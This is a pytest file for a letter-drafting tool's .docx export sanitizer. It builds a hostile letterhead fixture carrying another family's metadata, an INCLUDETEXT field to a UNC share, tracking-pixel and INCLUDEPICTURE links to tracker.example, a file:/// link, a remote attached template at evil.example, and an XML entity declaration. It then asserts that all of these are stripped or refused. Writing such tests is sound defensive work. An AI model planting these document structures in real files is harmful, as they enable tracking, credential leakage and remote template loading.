"""Exports carry no inherited metadata and nothing that fetches content from elsewhere."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import docx
import pytest

from planwriter.core.model import Case
from planwriter.render.docx_safety import PROPERTY_LIMIT, UnsafeDocx, clean_docx, fit_property
from planwriter.render.engine import default_registry, export, export_docx, render_document

FIELD_XML = (
    '<w:p xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    '<w:fldSimple w:instr=\' INCLUDETEXT "\\\\\\\\server\\\\share\\\\x.docx" \'>'
    "<w:r><w:t>simple</w:t></w:r></w:fldSimple>"
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE "http://tracker.example/p.png"'
    ' </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    "</w:p>"
)


def hostile_letterhead(path: Path) -> Path:
    """A letterhead as another client's advocate might share it: their details and external links."""
    document = docx.Document()
    props = document.core_properties
    props.author = "Other Client Advocate"
    props.last_modified_by = "Other Client"
    props.comments = "Draft for the Smith family"
    props.keywords = "smith, confidential"
    props.category = "client files"
    document.sections[0].header.paragraphs[0].text = "Advocacy Office"
    document.save(str(path))
    buffer = io.BytesIO()
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(buffer, "w") as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "docProps/app.xml":
                data = data.replace(b"</Properties>", b"<Company>Smith Family Trust</Company>"
                                    b"<Manager>J. Smith</Manager><Template>\\\\server\\t.dotm</Template></Properties>")
            if info.filename == "word/_rels/document.xml.rels":
                data = data.replace(b"</Relationships>", (
                    b'<Relationship Id="rIdX1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                    b'relationships/image" Target="http://tracker.example/logo.png" TargetMode="External"/>'
                    b'<Relationship Id="rIdX2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                    b'relationships/hyperlink" Target="file:///C:/clients/smith.docx" TargetMode="External"/>'
                    b'<Relationship Id="rIdX3" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                    b'relationships/hyperlink" Target="https://www.ed.gov/" TargetMode="External"/>'
                    b"</Relationships>"))
            if info.filename == "word/_rels/settings.xml.rels" or info.filename == "word/settings.xml":
                pass
            target.writestr(info, data)
        target.writestr("word/_rels/settings.xml.rels", (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
            b'openxmlformats.org/package/2006/relationships"><Relationship Id="rIdT" Type="http://schemas.'
            b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example'
            b'/t.dotm" TargetMode="External"/></Relationships>'))
    data = buffer.getvalue()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            content = source.read(info)
            if info.filename == "word/settings.xml":
                content = re.sub(rb"(<w:settings[^>]*>)", rb'\1<w:attachedTemplate r:id="rIdT"/>', content, count=1)
                if b'xmlns:r=' not in content[:2000]:
                    content = content.replace(b"<w:settings ", b'<w:settings xmlns:r="http://schemas.openxmlformats.'
                                              b'org/officeDocument/2006/relationships" ', 1)
            if info.filename == "word/document.xml":
                fields = FIELD_XML.encode().replace(
                    b' xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"', b"")
                content = content.replace(b"<w:body>", b"<w:body>" + fields, 1)
            target.writestr(info, content)
    path.write_bytes(out.getvalue())
    return path


def _all_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return "\n".join(archive.read(n).decode("utf-8", "replace") for n in archive.namelist()
                         if n.endswith((".xml", ".rels")))


def test_an_export_on_a_hostile_letterhead_is_clean(tmp_path: Path, sample_case: Case) -> None:
    letterhead = hostile_letterhead(tmp_path / "letterhead.docx")
    template = default_registry().get("records")
    document = render_document(sample_case, "records", dict(template.meta.sample_inputs))
    notices: list[str] = []
    out = export_docx(document, tmp_path / "letter.docx", letterhead=letterhead, notices=notices)
    text = _all_xml(out)
    for leaked in ("Other Client", "Smith", "smith", "tracker.example", "evil.example", "file:///", "INCLUDE",
                   "attachedTemplate"):
        assert leaked not in text, leaked
    assert "https://www.ed.gov/" in text  # an ordinary web link stays
    props = docx.Document(str(out)).core_properties
    assert props.author == document.author
    assert props.title == document.title
    assert props.language
    assert not props.comments and not props.keywords
    assert len(notices) >= 3
    assert any("inherited" in n for n in notices)
    assert "Advocacy Office" in text  # the letterhead itself is kept


def test_a_plain_export_has_no_notices(tmp_path: Path, sample_case: Case) -> None:
    template = default_registry().get("records")
    document = render_document(sample_case, "records", dict(template.meta.sample_inputs))
    notices: list[str] = []
    export_docx(document, tmp_path / "plain.docx", notices=notices)
    assert notices == []


def test_long_names_fit_word_property_limits(tmp_path: Path, sample_case: Case) -> None:
    sample_case.child.legal_last_name = "Rivera" + "x" * 300
    sample_case.sender.name = "Maria " + "y" * 300
    template = default_registry().get("records")
    out = tmp_path / "long.docx"
    export(sample_case, "records", out, dict(template.meta.sample_inputs))
    props = docx.Document(str(out)).core_properties
    assert 0 < len(props.title) <= PROPERTY_LIMIT
    assert len(props.author) <= PROPERTY_LIMIT
    assert fit_property("a " * 400).endswith("…")


def test_a_broken_letterhead_is_refused_in_one_line(tmp_path: Path, sample_case: Case) -> None:
    bad = tmp_path / "bad.docx"
    bad.write_bytes(b"not a zip")
    template = default_registry().get("records")
    document = render_document(sample_case, "records", dict(template.meta.sample_inputs))
    with pytest.raises(UnsafeDocx):
        export_docx(document, tmp_path / "x.docx", letterhead=bad)
    assert not (tmp_path / "x.docx").exists()


def test_clean_docx_refuses_entities() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("docProps/core.xml", b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>')
    with pytest.raises(UnsafeDocx):  # refused, nothing resolved
        clean_docx(buffer.getvalue(), title="t", author="a")
